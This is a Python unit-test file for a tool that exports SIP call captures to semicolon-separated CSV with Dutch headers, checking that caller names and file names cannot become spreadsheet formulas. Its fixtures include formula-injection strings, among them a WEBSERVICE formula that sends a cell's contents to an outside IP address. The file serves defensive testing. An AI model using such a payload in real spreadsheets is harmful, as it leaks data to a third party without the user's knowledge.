# packaging/gesprekken-csv.py: a row for each call, whatever is in the names.
#
# SPDX-License-Identifier: GPL-2.0-or-later
"""usage: test_rows.py PLUGIN SCRIPT [unittest arguments]"""

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import unicodedata
import unittest
import urllib.parse

from capture import CaptureWriter
from sandbox import Sandbox

HEADER = ["capture", "nummer", "start", "beller", "gebelde", "uitkomst", "mislukt", "code", "betekenis", "categorie",
          "toon na", "opgenomen na", "duur", "opgehangen door", "hoort bij", "van", "naar", "Call-ID", "pakket"]

# A user as it is sent, and its cell: a text that is safe in a spreadsheet, and stays what it was.
NAMES = {
    "jan": "jan",
    '"x': '"x',
    'a";"b': 'a";"b',
    '=WEBSERVICE("http://192.0.2.66/"&A1)': '\'=WEBSERVICE("http://192.0.2.66/"&A1)',
    "-1+1": "'-1+1",
    "@SUM(1)": "'@SUM(1)",
    "  =1+1": "'  =1+1",
    "＝1+1": "'＝1+1",
    "a|b": "a|b",
    "+31101234567": "'+31101234567",
    "0101234567": "'0101234567",
    "1.234": "'1.234",
    "1e5": "'1e5",
    "3-4": "'3-4",
    "10:20": "'10:20",
    "1a": "1a",
    "café": "café",
}

# Users of whom the plugin itself shows no raw character.
CONTROLS = ["a\rb", "a\nb", "\t=1", "\r=1", "\n=1", "\u202e=1"]

RISKY = tuple("=+-@＝＋－＠\t\r\n")


def message(first, sequence, caller, callee, call_id):
    return [first, "Via: SIP/2.0/UDP 192.0.2.1;branch=z9hG4bK" + call_id,
            f"From: <sip:{urllib.parse.quote(caller, safe='')}@example.nl>;tag=a",
            f"To: <sip:{urllib.parse.quote(callee, safe='')}@example.nl>",
            f"Call-ID: {call_id}", f"CSeq: {sequence}", "Content-Length: 0"]


def invite(caller, callee, call_id):
    return message("INVITE sip:x@192.0.2.2 SIP/2.0", "1 INVITE", caller, callee, call_id)


def response(status, caller, callee, call_id):
    return message(f"SIP/2.0 {status}", "1 INVITE", caller, callee, call_id)


class Rows(unittest.TestCase):
    def setUp(self):
        self.sandbox = Sandbox(PLUGIN)
        self.addCleanup(self.sandbox.remove)
        self.script = shutil.copy(SCRIPT, self.sandbox.folder)
        # The user of the sandbox may not be able to run the Python of this test.
        self.python = self.sandbox.silent("python3", "-c", "import sys; print(sys.executable)").strip()

    def write(self, name, frames):
        """Writes a capture of (kind of frame with its direction, lines)."""
        writer = CaptureWriter()
        for header, lines in frames:
            writer.add_text(header, lines)
        os.makedirs(os.path.dirname(self.sandbox.path(name)), exist_ok=True)
        writer.write(self.sandbox.path(name))
        return name

    def write_calls(self, name, statuses, caller="0101234567"):
        """A capture with one call after the other, each with that final response."""
        frames = []
        for number, status in enumerate(statuses):
            names = caller, "0201234567", f"c{number}"
            frames += [("udp 192.0.2.1 > 192.0.2.2", invite(*names)),
                       ("udp 192.0.2.2 > 192.0.2.1", response("180 Ringing", *names)),
                       ("udp 192.0.2.2 > 192.0.2.1", response(status, *names))]
        return self.write(name, frames)

    def try_run(self, *arguments, environment=None):
        return subprocess.run([self.python, "-B", self.script, *arguments], capture_output=True, check=False,
                              timeout=300, **self.sandbox.options(environment))

    def printed(self, *arguments):
        result = self.try_run(*arguments)
        self.assertEqual((result.returncode, result.stderr.decode()), (0, ""))
        return result.stdout.decode()

    def parse(self, printed):
        """The rows as {column: cell}, by Python's own reader."""
        self.assertTrue(printed.startswith("\ufeff"))
        header, *rows = csv.reader(io.StringIO(printed[1:], newline=""), delimiter=";", strict=True)
        self.assertEqual(header, HEADER)
        for row in rows:
            self.assertEqual(len(row), len(HEADER))
        return [dict(zip(header, row)) for row in rows]

    def rows(self, *arguments):
        return self.parse(self.printed(*arguments))

    def test_a_call_is_a_row_in_dutch(self):
        capture = self.write_calls("busy.pcap", ["486 Busy Here"])
        self.assertEqual([list(row.values()) for row in self.rows(capture)], [[
            "busy.pcap", "1", "1970-01-01 00:00:00,000", "'0101234567", "'0201234567", "in gesprek", "ja", "486",
            "In gesprek", "busy", "1,000", "", "", "", "", "'192.0.2.1", "'192.0.2.2", "c0", "3"]])

    def test_the_time_is_local(self):
        capture = self.write_calls("busy.pcap", ["486 Busy Here"])
        result = self.try_run(capture, environment={"TZ": "CET-1"})
        self.assertEqual(self.parse(result.stdout.decode())[0]["start"], "1970-01-01 01:00:00,000")

    def test_every_field_is_in_quotes_and_ends_with_a_semicolon(self):
        line = self.printed(self.write_calls("busy.pcap", ["486 Busy Here"])).splitlines()[1]
        self.assertTrue(line.startswith('"busy.pcap";"1";"1970'), line)
        self.assertEqual(line.count('";"'), len(HEADER) - 1)

    def test_a_name_stays_what_it_was_and_is_never_a_formula_or_a_number(self):
        frames = [("udp 192.0.2.1 > 192.0.2.2", invite(name, name[::-1], f"c{at}")) for at, name in enumerate(NAMES)]
        rows = self.rows(self.write("names.pcap", frames))
        self.assertEqual([row["beller"] for row in rows], list(NAMES.values()))
        self.assertEqual([row["gebelde"].removeprefix("'") for row in rows], [name[::-1] for name in NAMES])

    def test_control_characters_make_no_row_and_no_formula(self):
        frames = [("udp 192.0.2.1 > 192.0.2.2", invite(name, "b", f"c{at}")) for at, name in enumerate(CONTROLS)]
        rows = self.rows(self.write("controls.pcap", frames))
        self.assertEqual(len(rows), len(CONTROLS))
        for row in rows:
            seen = [character for character in row["beller"] if unicodedata.category(character)[0] not in "CZ"]
            self.assertNotIn(seen[0], RISKY)
            self.assertFalse(row["beller"].startswith(RISKY))

    def test_the_name_of_a_capture_can_be_anything(self):
        plain = ['a"b;c.pcap', "a\nb.pcap", "2023.pcap"]
        risky = ["=1.pcap", "\ta.pcap", "\ra.pcap", "\na.pcap", "\t=1.pcap", "\u202e=1.pcap"]
        rows = self.rows(*(self.write_calls(name, ["486 Busy Here"]) for name in plain + risky))
        self.assertEqual([row["capture"] for row in rows], plain + ["'" + name for name in risky])

    def test_a_frame_that_starts_16_calls_gives_16_rows(self):
        lines = [line for at in range(16) for line in [*invite(f"beller{at}", f"gebelde{at}", f"c{at}"), ""]]
        answers = [line for at in range(16) for line in
                   [*response("486 Busy Here" if at % 2 else "404 Not Found", f"beller{at}", f"gebelde{at}", f"c{at}"),
                    ""]]
        capture = self.write("tcp.pcap", [("tcp 192.0.2.1 > 192.0.2.2", lines[:-1]),
                                          ("tcp 192.0.2.2 > 192.0.2.1", answers[:-1])])
        found = [(row["nummer"], row["beller"], row["gebelde"], row["Call-ID"], row["code"])
                 for row in self.rows(capture)]
        self.assertEqual(found, [(str(at + 1), f"beller{at}", f"gebelde{at}", f"c{at}", "486" if at % 2 else "404")
                                 for at in range(16)])

    def test_a_call_that_starts_in_a_frame_of_another_is_one_row(self):
        lines = [*message("BYE sip:x@192.0.2.2 SIP/2.0", "2 BYE", "a", "b", "c0"), "", *invite("c", "d", "c1"), "",
                 *message("CANCEL sip:x@192.0.2.2 SIP/2.0", "1 CANCEL", "c", "d", "c1")]
        capture = self.write("tcp.pcap", [("tcp 192.0.2.1 > 192.0.2.2", invite("a", "b", "c0")),
                                          ("tcp 192.0.2.1 > 192.0.2.2", lines)])
        self.assertEqual([row["Call-ID"] for row in self.rows(capture)], ["c0", "c1"])

    def test_a_folder_is_read_in_order_and_as_each_of_its_captures(self):
        names = [f"map/{at}/{at}.pcap" for at in range(9)]
        for at, name in enumerate(names):
            self.write_calls(name, ["486 Busy Here"] * (at + 1))
        with open(self.sandbox.path("map/notes.txt"), "w", encoding="utf-8") as file:
            file.write("no capture\n")
        apart = self.rows(*names)
        self.assertEqual(len(apart), 45)
        self.assertEqual(self.rows("map"), apart)

    def test_a_folder_without_captures_says_so(self):
        os.mkdir(self.sandbox.path("leeg"))
        result = self.try_run("leeg")
        self.assertEqual(result.returncode, 0)
        self.assertEqual(self.parse(result.stdout.decode()), [])
        self.assertIn("in leeg staan geen captures", result.stderr.decode())

    def test_a_filter_chooses_calls_that_are_told_whole(self):
        capture = self.write_calls("calls.pcap", ["486 Busy Here", "404 Not Found", "486 Busy Here", "603 Decline"])
        for condition in ["sipnl.code == 404", "sipnl.call.category == \"invalid_number\"", "frame.number == 6"]:
            (row,) = self.rows("--filter", condition, capture)
            self.assertEqual((row["nummer"], row["uitkomst"], row["code"], row["toon na"]),
                             ("2", "nummer niet gevonden", "404", "1,000"))
        self.assertEqual(self.rows("--filter", "sipnl.code == 600", capture), [])

    def test_json_holds_the_same_rows_as_raw_values(self):
        capture = self.write_calls("calls.pcap", ["486 Busy Here", "404 Not Found"], caller="=1+1")
        rows = [json.loads(line) for line in self.printed("--json", capture).splitlines()]
        self.assertEqual([row["code"] for row in rows], [486, 404])
        self.assertEqual(rows[0], {
            "capture": "calls.pcap", "call": 1, "start": "1970-01-01T00:00:00+00:00", "caller": "=1+1",
            "callee": "0201234567", "outcome": "in gesprek", "failed": True, "code": 486, "phrase": "In gesprek",
            "category": "busy", "ringing_after": 1.0, "answered_after": None, "duration": None, "ended_by": None,
            "leg_of": None, "source": "192.0.2.1", "destination": "192.0.2.2", "call_id": "c0", "frame": 3})

    def test_a_capture_that_was_cut_short_gives_the_rows_up_to_there(self):
        capture = self.write_calls("cut.pcap", ["486 Busy Here", "404 Not Found"])
        whole = self.write_calls("whole.pcap", ["603 Decline"])
        os.truncate(self.sandbox.path(capture), os.path.getsize(self.sandbox.path(capture)) - 10)
        result = self.try_run(capture, whole)
        self.assertEqual(result.returncode, 0)
        self.assertEqual([(row["capture"], row["code"]) for row in self.parse(result.stdout.decode())],
                         [("cut.pcap", "486"), ("cut.pcap", "180"), ("whole.pcap", "603")])
        self.assertIn("cut.pcap is afgebroken of beschadigd", result.stderr.decode())

    def test_what_cannot_be_read_is_named_and_the_others_are_told(self):
        result = self.try_run("none.pcap", self.write_calls("calls.pcap", ["486 Busy Here"]))
        self.assertEqual(result.returncode, 1)
        self.assertEqual([row["code"] for row in self.parse(result.stdout.decode())], ["486"])
        self.assertIn("none.pcap kan niet worden gelezen", result.stderr.decode())

    def refused(self, *arguments, environment=None):
        """What it says on stderr when it prints no table at all."""
        result = self.try_run(*arguments, environment=environment)
        self.assertEqual((result.returncode, result.stdout), (1, b""))
        return result.stderr.decode()

    def test_without_tshark_it_says_how_to_get_it(self):
        self.assertIn("apt install tshark", self.refused("x.pcap", environment={"PATH": "/none"}))

    def test_without_the_plugin_it_says_how_to_get_it(self):
        self.assertIn("packaging/install.sh", self.refused("x.pcap", environment={"WIRESHARK_PLUGIN_DIR": "/none"}))

    def test_a_filter_that_is_none_is_refused_with_the_reason(self):
        said = self.refused("--filter", "sip.nothing == 1", self.write_calls("calls.pcap", ["486 Busy Here"]))
        self.assertIn("neemt dit filter niet aan", said)
        self.assertIn("sip.nothing", said)


if __name__ == "__main__":
    PLUGIN, SCRIPT = sys.argv.pop(1), sys.argv.pop(1)
    unittest.main()
